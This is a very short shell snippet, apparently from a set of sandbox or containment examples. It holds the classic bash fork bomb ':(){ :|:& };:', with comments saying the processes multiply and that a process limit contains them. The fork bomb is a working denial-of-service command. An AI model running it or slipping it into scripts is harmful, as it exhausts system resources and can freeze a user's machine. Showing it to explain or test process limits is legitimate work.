# Trick: processes multiply.
# Contained: the number of processes is limited
:(){ :|:& };:
